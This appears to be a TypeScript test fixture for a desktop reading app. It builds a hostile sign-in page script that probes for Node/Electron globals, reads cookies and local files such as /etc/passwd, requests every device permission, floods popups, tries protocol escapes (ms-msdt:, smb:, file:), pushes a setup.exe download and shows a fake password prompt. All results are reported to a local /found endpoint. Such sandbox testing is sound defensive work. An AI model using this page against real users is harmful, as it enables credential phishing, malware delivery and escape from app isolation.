/** A sign-in page that tries to get out of its window. What it manages it tells the server at /found. */

/** One thing the hostile page tried, and what came of it as far as the page can see. */
export interface Found {
  what: string;
  got: string;
}

/** Where the hostile page's downloads come from. */
export const attachmentPath = '/user/ledger-setup.exe';

const script = `
const tell = (what, got) => fetch('/found', { method: 'POST', keepalive: true, body: new URLSearchParams({ what, got: String(got) }) }).catch(() => {});
const attempt = (what, run) => { try { const got = run(); tell(what, got); } catch (error) { tell(what, 'threw ' + error.name); } };
const attemptLater = (what, run) => {
  try {
    const late = new Promise((resolve) => setTimeout(resolve, 3000, 'no answer'));
    Promise.race([Promise.resolve(run()).then((got) => got ?? 'done'), late]).then((got) => tell(what, got), (error) => tell(what, 'refused ' + error.name));
  } catch (error) { tell(what, 'threw ' + error.name); }
};
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

for (const name of ['bridge', 'process', 'require', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer', '__dirname', 'setImmediate'])
  for (const [where, from] of [['window', window], ['parent', parent], ['top', top], ['opener', window.opener]])
    attempt(where + '.' + name, () => (from === null ? 'no window' : typeof from[name]));
attempt('cookie', () => document.cookie);
attempt('user agent', () => navigator.userAgent);
attempt('bridge answers', () => (window.bridge ? JSON.stringify(Object.keys(window.bridge)) : 'none'));

for (const address of ['file:///etc/passwd', 'file:///C:/Windows/win.ini', 'broadsheet-app://window/index.html', 'broadsheet-article://article/1', 'chrome://version', 'devtools://devtools/bundled/inspector.html'])
  attemptLater('fetch ' + address, () => fetch(address).then((response) => response.text()).then((text) => 'read ' + text.length));

const permissions = {
  geolocation: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('granted'), (error) => reject(Object.assign(new Error(error.message), { name: 'code ' + error.code })))),
  notifications: () => Notification.requestPermission(),
  'clipboard-read': () => navigator.clipboard.readText().then((text) => 'granted ' + text.length),
  'clipboard-write': () => navigator.clipboard.writeText('written by the sign-in page').then(() => 'granted'),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'granted'),
  microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'granted'),
  screen: () => navigator.mediaDevices.getDisplayMedia({ video: true }).then(() => 'granted'),
  midi: () => navigator.requestMIDIAccess({ sysex: true }).then(() => 'granted'),
  fullscreen: () => document.documentElement.requestFullscreen().then(() => 'granted'),
  pointerLock: () => document.documentElement.requestPointerLock(),
  usb: () => navigator.usb.requestDevice({ filters: [] }).then(() => 'granted'),
  serial: () => navigator.serial.requestPort().then(() => 'granted'),
  hid: () => navigator.hid.requestDevice({ filters: [] }).then((devices) => (devices.length > 0 ? 'granted' : 'none')),
  bluetooth: () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }).then(() => 'granted'),
  files: () => showOpenFilePicker().then(() => 'granted'),
  wakeLock: () => navigator.wakeLock.request('screen').then(() => 'granted'),
  protocolHandler: () => navigator.registerProtocolHandler('web+ledger', '/user/login?%s'),
};
const askAll = (when) => { for (const [name, ask] of Object.entries(permissions)) attemptLater('permission ' + name + when, ask); };

const flood = (when) => {
  let opened = 0;
  for (let index = 0; index < 30; index += 1) {
    try { if (window.open('/about?flood=' + index, '_blank', 'width=200,height=200,left=' + index * 9)) opened += 1; } catch { /* counted as not opened */ }
  }
  tell('windows opened' + when, opened);
};

const escapes = ['file:///etc/passwd', 'broadsheet-app://window/index.html', 'broadsheet-article://article/1', 'broadsheet-article://outside/?to=https%3A%2F%2Fexample.invalid', 'mailto:editor@ledger.example', 'tel:+100', 'ledger-desk://open?now', 'ms-msdt:/id', 'smb://127.0.0.1/share', 'javascript:void 0', 'data:text/html,<title>out</title>', 'blob:null/x', 'chrome://version', 'view-source:' + location.origin];
const leave = async () => {
  for (const address of escapes) {
    attempt('assign ' + address, () => { location.assign(address); return 'went on'; });
    await pause(60);
    attempt('open ' + address, () => (window.open(address) ? 'opened' : 'null'));
    attempt('frame ' + address, () => { const frame = document.createElement('iframe'); frame.hidden = true; frame.src = address; document.body.append(frame); return 'went on'; });
    attempt('click ' + address, () => { const link = document.createElement('a'); link.href = address; document.body.append(link); link.click(); link.remove(); return 'went on'; });
    await pause(60);
    tell('still there after ' + address, location.href);
  }
};

const download = () => {
  for (const [name, href] of [['attachment', '${attachmentPath}'], ['blob', URL.createObjectURL(new Blob(['MZ']))]])
    attempt('download ' + name, () => { const link = document.createElement('a'); link.href = href; link.download = 'setup.exe'; document.body.append(link); link.click(); link.remove(); return 'asked'; });
  attempt('download frame', () => { const frame = document.createElement('iframe'); frame.hidden = true; frame.src = '${attachmentPath}?frame'; document.body.append(frame); return 'asked'; });
};

window.addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'Stay'; });
document.addEventListener('pointerdown', () => { flood(' by a click'); askAll(' by a click'); }, { once: true });

(async () => {
  flood('');
  askAll('');
  download();
  await leave();
  attempt('moved', () => { window.moveTo(0, 0); window.resizeTo(9, 9); return 'asked'; });
  await pause(200);
  // Last, as a page stands still while one of these is shown.
  for (const name of ['alert', 'confirm', 'prompt']) attempt(name, () => window[name]('Your session has ended. Enter your password:'));
  tell('end', 'reached');
  await pause(200);
  // After the end: where the system shows its print dialog, the page goes no further.
  attempt('print', () => { window.print(); return 'returned'; });
})();
`;

/** What is added to the sign-in page, whose form works as before. */
export const hostileMarkup = `<script>${script}</script>`;
